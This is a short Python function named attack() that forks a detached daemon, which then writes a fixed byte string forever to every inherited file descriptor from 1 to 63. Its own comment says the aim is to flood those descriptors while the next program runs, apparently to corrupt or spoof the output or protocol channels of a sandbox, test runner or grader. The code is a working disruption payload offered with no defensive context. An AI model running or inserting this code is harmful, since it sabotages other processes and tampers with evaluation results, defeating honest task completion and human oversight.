# Leaves a daemon that floods every descriptor it inherited while the next program runs.
def attack():
    import posix
    import time

    if posix.fork():
        return False
    posix.setsid()
    for handle in range(1, 64):
        try:
            posix.set_blocking(handle, False)
        except OSError:
            pass
    while True:
        for handle in range(1, 64):
            try:
                posix.write(handle, b"0\n\x00\x00\x00\x05")
            except OSError:
                pass
        time.sleep(0.001)
